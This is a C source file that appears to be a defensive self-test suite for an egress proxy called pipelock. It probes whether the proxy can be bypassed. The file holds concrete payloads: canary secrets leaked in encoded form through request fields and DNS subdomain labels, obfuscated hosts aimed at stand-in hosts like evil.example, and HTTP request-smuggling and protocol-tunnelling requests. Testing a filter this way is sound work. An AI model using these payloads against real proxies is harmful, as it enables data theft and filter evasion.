/*
 * A3, A4 (its CONNECT half) and P: what can be tried on pipelock itself. The allowed host is
 * ok.selftest.example, bound.selftest.example has a credential, *.wild.selftest.example is allowed
 * and resolved by the canary's DNS. Everything else is not allowed.
 */
#include "probe/probe.h"

#include "probe/dlp.h"

#include "base/clean.h"
#include "base/mem.h"

#include <stdint.h>

#define OK	"ok.selftest.example"
#define OK_443	OK ":443"
#define HEAD_OK " HTTP/1.1\r\nHost: " OK "\r\n"
#define GET_T	"GET /%T" HEAD_OK "\r\n"

struct attempt {
	const char *label;
	const char *authority; /* NULL: plain request to the proxy */
	const char *sni;
	const char *request;
};

static void run_attempts(const struct probe_env *env, const char *id, const struct attempt *a,
			 size_t n)
{
	for (size_t i = 0; i < n; i++) {
		if (a[i].authority)
			probe_try_tunnel(env, id, a[i].label, a[i].authority, a[i].sni,
					 a[i].request);
		else
			probe_try_proxy(env, id, a[i].label, a[i].request);
	}
}

#define RUN(env, id, attempts) run_attempts(env, id, attempts, ARRAY_LEN(attempts))

/* --- A3: a secret to an allowed host --- */

/* Sends value in each place of a request to the allowed host. */
static void send_secret(const struct probe_env *env, const char *id, const char *kind,
			const char *value)
{
	const struct {
		const char *place, *format;
	} places[] = {
		{"path", "GET /%%T/%s" HEAD_OK "\r\n"},
		{"query", "GET /%%T?data=%s" HEAD_OK "\r\n"},
		{"header", "GET /%%T" HEAD_OK "X-Data: %s\r\n\r\n"},
		{"cookie", "GET /%%T" HEAD_OK "Cookie: session=%s\r\n\r\n"},
	};

	for (size_t i = 0; i < ARRAY_LEN(places); i++) {
		_cleanup_free_ char *label = mem_printf("%s-%s", kind, places[i].place);
		_cleanup_free_ char *request = NULL;

#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wformat-nonliteral" /* the table above */
		request = mem_printf(places[i].format, value);
#pragma GCC diagnostic pop
		probe_try_tunnel(env, id, label, OK_443, OK, request);
	}
	{
		_cleanup_free_ char *label = mem_printf("%s-body", kind);
		_cleanup_free_ char *request =
			mem_printf("POST /%%T" HEAD_OK "Content-Type: application/json\r\n"
				   "Content-Length: %zu\r\n\r\n{\"note\":\"%s\"}",
				   strlen(value) + 11, value);

		probe_try_tunnel(env, id, label, OK_443, OK, request);
	}
}

static void run_a3(const struct probe_env *env, const char *id)
{
	char token[PROBE_TOKEN_SIZE];
	_cleanup_free_ char *shaped = NULL, *coded = NULL, *percent = NULL, *hex = NULL;

	probe_token(env, id, "secret", token);
	shaped = dlp_shaped_secret(token);
	coded = dlp_base64(shaped);
	percent = dlp_percent(shaped);
	hex = dlp_hex(shaped, "");
	send_secret(env, id, "shaped", shaped);
	send_secret(env, id, "base64", coded);
	send_secret(env, id, "percent", percent);
	send_secret(env, id, "hex", hex);
	if (env->canary_secret) {
		_cleanup_free_ char *planted = dlp_base64(env->canary_secret);

		send_secret(env, id, "planted", env->canary_secret);
		send_secret(env, id, "planted-base64", planted);
	}
}

static void run_a4(const struct probe_env *env, const char *id)
{
	char token[PROBE_TOKEN_SIZE];
	_cleanup_free_ char *shaped = NULL, *hex = NULL, *first = NULL, *second = NULL;

	probe_token(env, id, "secret", token);
	shaped = dlp_shaped_secret(token);
	hex = dlp_hex(env->canary_secret ? env->canary_secret : shaped, "");
	first = mem_printf("%.60s.%%T.wild.selftest.example:443", hex);
	second = mem_printf("%.60s.%%T.wild.selftest.example", hex);
	probe_try_tunnel(env, id, "subdomain-of-allowed", first, second,
			 "GET /%T HTTP/1.1\r\nHost: wild.selftest.example\r\n\r\n");
	probe_try_udp(env, id, "outside-resolver", env->is_control ? "127.0.0.1" : "1.1.1.1",
		      env->is_control ? env->any : 53);
}

/* --- P --- */

static void run_p01(const struct probe_env *env, const char *id)
{
	static const struct attempt attempts[] = {
		{"decimal", "2130706433:443", OK, GET_T},
		{"octal", "0177.0.0.1:443", OK, GET_T},
		{"hex", "0x7f000001:443", OK, GET_T},
		{"short", "127.1:443", OK, GET_T},
		{"zero", "0:443", OK, GET_T},
		{"literal", "93.184.215.14:443", OK, GET_T},
		{"v6", "[::1]:443", OK, GET_T},
		{"mapped", "[::ffff:127.0.0.1]:443", OK, GET_T},
		{"suffix", OK ".evil.example:443", OK, GET_T},
		{"prefix", "evil" OK ":443", OK, GET_T},
		{"punycode", "xn--k-0ga.selftest.example:443", OK, GET_T},
		{"userinfo", OK "@evil.example:443", OK, GET_T},
		{"absolute-userinfo", NULL, NULL,
		 "GET http://" OK "@evil.example/%T HTTP/1.1\r\nHost: evil.example\r\n\r\n"},
		{"two-dots", OK "..:443", OK, GET_T},
	};

	RUN(env, id, attempts);
}

/* Bytes that some parser somewhere takes for the end of a name. */
static void run_p02(const struct probe_env *env, const char *id)
{
	static const struct attempt attempts[] = {
		{"space", "evil.example " OK ":443", OK, GET_T},
		{"tab", "evil.example\t" OK ":443", OK, GET_T},
		{"percent-nul", "evil.example%00." OK ":443", OK, GET_T},
		{"line-feed", "evil.example:443 HTTP/1.1\nX: " OK ":443", OK, GET_T},
		{"return", "evil.example\r." OK ":443", OK, GET_T},
		{"sni-space", OK_443, "evil.example " OK, GET_T},
		{"fragment", "evil.example#" OK ":443", OK, GET_T},
		{"slash", "evil.example/" OK ":443", OK, GET_T},
	};
	static struct probe_reply r;
	char token[PROBE_TOKEN_SIZE];
	struct buf b;

	RUN(env, id, attempts);
	/* A real NUL needs a request that knows its length. */
	probe_token(env, id, "nul", token);
	buf_init(&b, 4096);
	if (buf_append(&b, "GET http://evil.example\0." OK "/", 24 + sizeof(OK)) == 0 &&
	    buf_printf(&b, "%s HTTP/1.1\r\nHost: " OK "\r\n\r\n", token) == 0) {
		probe_ask_proxy(env, buf_str(&b), &r);
		probe_report(id, "nul", token, r.status == 200, 0, r.error);
	}
	buf_free(&b);
}

static void run_p03(const struct probe_env *env, const char *id)
{
	static const struct attempt attempts[] = {
		{"ssh", OK ":22", OK, GET_T},
		{"smtp", OK ":25", OK, GET_T},
		{"other-tls", OK ":8443", OK, GET_T},
		{"zero", OK ":0", OK, GET_T},
		{"overflow", OK ":65979", OK, GET_T},
		{"none", OK, OK, GET_T},
		{"negative", OK ":-443", OK, GET_T},
		{"plain-443", NULL, NULL,
		 "GET http://" OK_443 "/%T HTTP/1.1\r\nHost: " OK_443 "\r\n\r\n"},
		{"plain-80", NULL, NULL, "GET http://" OK "/%T" HEAD_OK "\r\n"},
	};

	RUN(env, id, attempts);
}

static void run_p04(const struct probe_env *env, const char *id)
{
	static const struct attempt attempts[] = {
		{"sni-not-connect", OK_443, "other.selftest.example", GET_T},
		{"sni-secret-label", OK_443, "%T." OK, GET_T},
		{"sni-bound-host", OK_443, "bound.selftest.example", GET_T},
		{"no-sni", OK_443, NULL, GET_T},
	};

	RUN(env, id, attempts);
}

static void run_p05(const struct probe_env *env, const char *id)
{
	static const struct attempt attempts[] = {
		{"host-not-connect", OK_443, OK,
		 "GET /%T HTTP/1.1\r\nHost: other.selftest.example\r\n\r\n"},
		{"two-hosts", OK_443, OK, "GET /%T" HEAD_OK "Host: other.selftest.example\r\n\r\n"},
		{"no-host", OK_443, OK, "GET /%T HTTP/1.1\r\n\r\n"},
		{"absolute-not-host", OK_443, OK,
		 "GET https://other.selftest.example/%T" HEAD_OK "\r\n"},
		{"host-with-port", OK_443, OK, "GET /%T HTTP/1.1\r\nHost: " OK ":8443\r\n\r\n"},
		{"host-list", OK_443, OK,
		 "GET /%T HTTP/1.1\r\nHost: " OK ", other.selftest.example\r\n\r\n"},
	};

	RUN(env, id, attempts);
}

#define POST_OK "POST /%T" HEAD_OK

static void run_p06(const struct probe_env *env, const char *id)
{
	static struct probe_reply r;
	char token[PROBE_TOKEN_SIZE];
	_cleanup_free_ char *request = NULL;
	static const struct attempt attempts[] = {
		{"cl-te", OK_443, OK,
		 POST_OK "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"},
		{"te-cl", OK_443, OK,
		 POST_OK "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n"},
		{"te-te", OK_443, OK,
		 POST_OK "Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n"},
		{"te-odd", OK_443, OK, POST_OK "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"},
		{"two-lengths", OK_443, OK,
		 POST_OK "Content-Length: 2\r\nContent-Length: 3\r\n\r\nabc"},
		{"plus-length", OK_443, OK, POST_OK "Content-Length: +3\r\n\r\nabc"},
		{"obs-fold", OK_443, OK, POST_OK "X-A: b\r\n c\r\nContent-Length: 3\r\n\r\nabc"},
		{"bare-lf", OK_443, OK, "GET /%T HTTP/1.1\nHost: " OK "\nX-A: b\r\n\r\n"},
		{"space-before-colon", OK_443, OK, POST_OK "Content-Length : 3\r\n\r\nabc"},
		{"chunk-extension", OK_443, OK,
		 POST_OK "Transfer-Encoding: chunked\r\n\r\n3;a=b\r\nabc\r\n0\r\n\r\n"},
		{"trailer", OK_443, OK,
		 POST_OK "Transfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\nX-T: %T\r\n\r\n"},
		{"huge-chunk", OK_443, OK,
		 POST_OK "Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\nabc\r\n0\r\n\r\n"},
	};

	RUN(env, id, attempts);
	/* The first of these two is allowed and answered; only the second one is the attack. */
	probe_token(env, id, "hidden-second", token);
	request = mem_printf("POST /allowed" HEAD_OK "Content-Length: 0\r\n\r\n"
			     "GET /%s HTTP/1.1\r\nHost: other.selftest.example\r\n\r\n",
			     token);
	probe_ask_tunnel(env, OK_443, OK, str_of(request), &r);
	probe_report(id, "hidden-second", token, false, 0, r.error);
}

static void run_p08(const struct probe_env *env, const char *id)
{
	static const struct {
		const char *label, *bytes;
	} protocols[] = {
		{"ssh", "SSH-2.0-%T\r\n"},
		{"raw", "\001\002\003%T"},
		{"http", "GET /%T HTTP/1.1\r\nHost: other.selftest.example\r\n\r\n"},
		{"h2-preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n%T"},
		{"connect-again", "CONNECT other.selftest.example:443 HTTP/1.1\r\nX: %T\r\n\r\n"},
	};
	static struct probe_reply r;

	for (size_t i = 0; i < ARRAY_LEN(protocols); i++) {
		char token[PROBE_TOKEN_SIZE];
		_cleanup_free_ char *bytes = NULL, *all = NULL;

		probe_token(env, id, protocols[i].label, token);
		bytes = probe_fill(protocols[i].bytes, token);
		all = mem_printf("CONNECT " OK_443 " HTTP/1.1\r\nHost: " OK_443 "\r\n\r\n%s",
				 bytes);
		probe_ask_proxy(env, str_of(all), &r);
		probe_report(id, protocols[i].label, token, strstr(r.text, "canary") != NULL, 0,
			     r.error);
	}
}

/* At the canary's own port, so that a missing check is seen. */
static void run_p12(const struct probe_env *env, const char *id)
{
	static const char *const kinds[] = {"inside", "mixed", "mapped"};

	for (size_t i = 0; i < ARRAY_LEN(kinds); i++) {
		/* Not the token: the name itself may be asked for, only the request must not
		 * arrive. */
		_cleanup_free_ char *name =
			mem_printf("%s-%.8s.wild.selftest.example", kinds[i], env->nonce);
		_cleanup_free_ char *authority = mem_printf("%s:%u", name, env->tls);
		_cleanup_free_ char *request =
			mem_printf("GET /%%T HTTP/1.1\r\nHost: %s\r\n\r\n", authority);

		probe_try_tunnel(env, id, kinds[i], authority, name, request);
	}
}

/* Run in bottles whose policy is empty, and as their control in one whose policy is not. */
static void run_p13(const struct probe_env *env, const char *id)
{
	static const struct attempt attempts[] = {
		{"allowed-elsewhere", OK_443, OK, GET_T},
		{"plain", NULL, NULL, "GET http://" OK "/%T" HEAD_OK "\r\n"},
	};

	RUN(env, id, attempts);
}

/* Not an attack: without an allowed request that arrives, a dead proxy would pass everything. */
static void run_a0(const struct probe_env *env, const char *id)
{
	_cleanup_free_ char *bound =
		mem_printf("GET /api/%%T HTTP/1.1\r\nHost: bound.selftest.example\r\n"
			   "Authorization: Bearer %s\r\n\r\n",
			   env->placeholder);

	probe_want_tunnel(env, id, "allowed", OK_443, OK, GET_T);
	probe_want_tunnel(env, id, "bound", "bound.selftest.example:443", "bound.selftest.example",
			  bound);
}

const struct probe probes_proxy[] = {
	{"A0", run_a0},	  {"A3", run_a3},   {"A4", run_a4},   {"P01", run_p01},
	{"P02", run_p02}, {"P03", run_p03}, {"P04", run_p04}, {"P05", run_p05},
	{"P06", run_p06}, {"P08", run_p08}, {"P12", run_p12}, {"P13", run_p13},
};
const size_t n_probes_proxy = ARRAY_LEN(probes_proxy);
